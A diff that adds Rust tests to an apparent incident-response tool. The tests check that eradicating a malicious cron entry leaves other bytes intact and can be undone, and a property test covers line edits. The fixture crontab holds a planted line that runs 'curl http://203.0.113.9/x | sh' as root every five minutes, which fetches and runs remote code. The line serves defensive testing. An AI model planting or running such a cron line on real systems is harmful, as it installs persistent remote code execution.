@@ -220,7 +220,61 @@ fn password_logins_stay_on_when_sshd_is_configured_by_an_include_first() {
     );
 }
 
+#[test]
+fn eradicating_a_line_leaves_every_other_byte_alone_even_invalid_utf8() {
+    let root = tempfile::tempdir().unwrap();
+    let state = tempfile::tempdir().unwrap();
+    let crontab: &[u8] = b"# \xff\xfe planted junk\r\n*/5 * * * * root curl http://203.0.113.9/x | sh\r\n@daily root /usr/bin/true";
+    write(root.path(), "/etc/crontab", crontab);
+    let r = responder(root.path(), state.path());
+    let finding = firewarden_model::Finding::new(
+        "linux.persistence.cron",
+        "Cron job",
+        firewarden_model::Severity::Critical,
+    )
+    .evidence(
+        firewarden_model::Evidence::at("/etc/crontab")
+            .line(2)
+            .excerpt("*/5 * * * * root curl http://203.0.113.9/x | sh"),
+    );
+    let plan = firewarden_respond::eradicate::plan(&r.target, &finding).unwrap();
+    r.apply(plan).unwrap();
+    assert_eq!(
+        std::fs::read(root.path().join("etc/crontab")).unwrap(),
+        b"# \xff\xfe planted junk\r\n@daily root /usr/bin/true"
+    );
+    // The same finding again: the line is gone, so the plan is refused, not guessed.
+    assert!(firewarden_respond::eradicate::plan(&r.target, &finding).is_err());
+    r.undo("A1", false).unwrap();
+    assert_eq!(
+        std::fs::read(root.path().join("etc/crontab")).unwrap(),
+        crontab
+    );
+}
+
 proptest! {
+    #[test]
+    fn line_edits_keep_untouched_bytes(bytes in proptest::collection::vec(any::<u8>(), 0..300), pick in any::<u8>()) {
+        // Keeping every line gives back the very same bytes.
+        let (same, n) = firewarden_respond::map_lines(&bytes, |_| firewarden_respond::LineEdit::Keep);
+        prop_assert_eq!(&same, &bytes);
+        prop_assert_eq!(n, 0);
+        // Deleting lines only ever removes whole lines: what is left is a subsequence of them.
+        let mut i = 0u8;
+        let (fewer, _) = firewarden_respond::map_lines(&bytes, |_| {
+            i = i.wrapping_add(1);
+            if i % 3 == pick % 3 { firewarden_respond::LineEdit::Delete } else { firewarden_respond::LineEdit::Keep }
+        });
+        let lines: Vec<&[u8]> = bytes.split_inclusive(|b| *b == b'\n').collect();
+        let mut rest: &[u8] = &fewer;
+        for l in lines {
+            if rest.starts_with(l) {
+                rest = &rest[l.len()..];
+            }
+        }
+        prop_assert!(rest.is_empty());
+    }
+
     #[test]
     fn shadow_locking_touches_only_that_account(lines in proptest::collection::vec("[a-z]{1,6}(:[!*$a-z0-9]{0,8}){0,9}", 0..8), user in "[a-z]{1,6}") {
         let shadow = lines.join("\n") + "\n";
